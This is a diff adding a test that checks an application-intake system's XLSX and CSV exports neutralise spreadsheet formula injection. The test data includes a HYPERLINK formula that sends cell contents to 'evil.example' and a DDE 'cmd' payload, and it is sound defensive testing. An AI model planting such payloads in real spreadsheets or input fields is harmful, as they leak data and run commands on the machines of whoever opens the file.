@@ -315,3 +315,28 @@ def test_bulk_eligibility(world, staff_a):
 def test_selector_scoped(world):
     qs = applications_for(world.users["mission_b.staff"], IntakeFilter(intake_year=2027))
     assert [a.reference for a in qs] == ["2027-IE-TEST0B"]
+
+
+def test_export_neutralises_formulas_typed_by_applicants(world, staff_a):
+    """Text an applicant typed is never a live formula in the XLSX nor a formula in the CSV; numbers stay
+    numbers."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    make_application(
+        world,
+        reference="R-EVIL",
+        passport_family_name=evil,
+        passport_given_names="@SUM(1+1)",
+        address="-2+3+cmd|' /C calc'!A0",
+        statement="\t=1+1",
+    )
+    response = staff_a.get(EXPORT, {"format": "xlsx", "q": "R-EVIL"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    family = next(c for c in cells if c.value == evil)
+    assert family.data_type == "s" and family.quotePrefix
+    response = staff_a.get(EXPORT, {"format": "csv", "q": "R-EVIL"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    values = [v for v in rows[1] if v]
+    assert "'" + evil in values and "'@SUM(1+1)" in values
+    assert not [v for v in values if v[0] in "=+-@\t\r"]
